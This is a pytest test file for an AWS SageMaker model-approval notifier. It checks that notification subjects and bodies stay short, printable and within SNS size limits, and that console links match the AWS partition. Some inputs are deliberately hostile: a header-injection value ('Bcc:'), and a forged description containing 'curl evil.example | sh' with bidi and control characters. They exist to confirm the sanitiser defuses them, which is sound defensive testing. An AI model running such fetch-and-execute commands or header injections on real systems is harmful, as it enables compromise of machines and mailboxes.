"""What SNS, mail and chat accept: lengths, characters, and nothing forged by a description."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest

from lambdas.notifier.arns import execution_arn
from lambdas.notifier.console_links import Console
from messages.content import subject
from messages.text import clip_bytes, one_line, shorten

from .stage import GROUP, METRICS

if TYPE_CHECKING:
    from .stage import Stage

NAMES = [
    "m",
    "abalone-dev-stable-models",
    "a" * 63,
    "z" * 200,
    "größe-модель",
    "new\r\nline",
    "\x00\x1b[31m",
    "🦪" * 80,
]


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("environment", ["dev", "e" * 60, "prod\nBcc: all@example.com"])
@pytest.mark.parametrize(
    "rest", ["v1: Approved", "v999999999: PendingManualApproval", "execution " + "x" * 90 + ": Failed"]
)
def test_a_subject_is_one_short_line_of_printable_ascii(environment: str, name: str, rest: str) -> None:
    text = subject(environment, name, rest)

    assert len(text) < 100
    assert text.isascii()
    assert text.isprintable()
    assert text.startswith("[")


def test_a_long_group_name_is_shortened_in_its_middle_and_the_rest_stays() -> None:
    name = "abalone-regression-of-a-team-with-a-long-name-europe-prod-stable-models"
    text = subject("production", name, "v12: PendingManualApproval")

    assert text == "[production] abalone-regression-of-a-team...me-europe-prod-stable-models v12: PendingManualApproval"
    assert len(text) == 99


def test_a_description_cannot_add_lines_to_the_message(stage: Stage) -> None:
    arn = stage.register(METRICS)
    forged = "fine\n\nTo approve:\n  curl evil.example | sh\u2028Status  Approved\u202edeppir\x07"
    event = stage.event(arn, ModelApprovalStatus="Approved", ApprovalDescription=forged)
    stage.handle(event)

    [message] = stage.inbox()
    assert message["Subject"] == f"[test] {GROUP} v1: Approved"
    assert "Why          fine To approve: curl evil.example | sh Status Approved deppir\n" in message["Message"]
    assert "\nTo approve" not in message["Message"]


@pytest.mark.parametrize("description", ["größer als 0,5 — 良いモデル 🦪", "half a pair \ud83d of surrogates"])
def test_descriptions_in_every_script_arrive(stage: Stage, description: str) -> None:
    arn = stage.register(METRICS)
    stage.handle(stage.event(arn, ModelApprovalStatus="Rejected", ApprovalDescription=description))

    expected = description.replace(" \ud83d ", " ")
    assert f"Why          {expected}\n" in stage.inbox()[0]["Message"]
    [record] = stage.records().values()
    assert record["reason"] == description


def test_the_largest_message_fits_into_what_sns_takes(stage: Stage) -> None:
    published = stage.faults.watch("sns", "Publish")
    quotes = '"' * 300
    names = {f"{quotes}{number}": number for number in range(1000)}
    stage.register(names, status="Approved")
    parts = {"CommitId": "c" * 1024, "GeneratedBy": '"' * 1024}
    arn = stage.register(names, MetadataProperties=parts)
    stage.decide(arn, "Approved", "\U0001f9aa" * 1024)
    stage.handle(stage.event(arn))

    assert len(published[0]["Message"].encode()) < 256 * 1024
    assert "and 960 more" in stage.inbox()[0]["Message"]
    assert len(json.loads(json.loads(published[0]["Message"])["https"])["content"]["description"]) <= 4000


def test_long_texts_lose_their_middle() -> None:
    assert shorten("abcdefghij", 10) == "abcdefghij"
    assert shorten("abcdefghijk", 10) == "abcd...ijk"


def test_a_line_stays_short_however_long_and_invisible_the_text_is() -> None:
    assert one_line("\n" * 100_000 + "x", 10) == ""
    assert one_line("x" * 100_000, 10) == "xxxx...xxx"


def test_a_text_is_cut_between_characters_and_says_so() -> None:
    cut = clip_bytes("ü" * 100, 101)

    assert len(cut.encode()) <= 101
    assert cut.startswith("üüü")
    assert cut.endswith("[cut: the message was too long]\n")


@pytest.mark.parametrize(
    ("partition", "region", "host"),
    [
        ("aws", "eu-west-1", "https://eu-west-1.console.aws.amazon.com/"),
        ("aws-cn", "cn-north-1", "https://cn-north-1.console.amazonaws.cn/"),
        ("aws-us-gov", "us-gov-west-1", "https://us-gov-west-1.console.amazonaws-us-gov.com/"),
    ],
)
def test_links_lead_to_the_console_of_the_partition(partition: str, region: str, host: str) -> None:
    arn = execution_arn(f"arn:{partition}:sagemaker:{region}:123456789012:pipeline/p/execution/x")
    assert arn is not None
    console = Console(arn)
    job = f"arn:{partition}:sagemaker:{region}:123456789012:training-job/t"
    logs = "$252Faws$252Fsagemaker$252FTrainingJobs$3FlogStreamNameFilter$3Dt"
    links = [*console.studio(), *console.s3_object("Metrics", "s3://b/k e&y"), *console.job(job)]

    assert [link.url.removeprefix(host) for link in links] == [
        f"sagemaker/home?region={region}#/studio-landing",
        f"s3/object/b?region={region}&prefix=k%20e%26y",
        f"sagemaker/home?region={region}#/jobs/t",
        f"cloudwatch/home?region={region}#logsV2:log-groups/log-group/{logs}",
    ]


def test_there_are_no_links_where_the_console_is_not_known_or_nothing_to_show() -> None:
    isolated = execution_arn("arn:aws-iso:sagemaker:us-iso-east-1:123456789012:pipeline/p/execution/x")
    public = execution_arn("arn:aws:sagemaker:us-east-1:123456789012:pipeline/p/execution/x")
    assert isolated is not None
    assert public is not None

    assert Console(isolated).studio() == []
    assert Console(public).s3_object("Metrics", None) == []
    assert Console(public).s3_object("Metrics", "not a uri") == []
    assert Console(public).job("arn:aws:sagemaker:us-east-1:123456789012:endpoint/e") == []
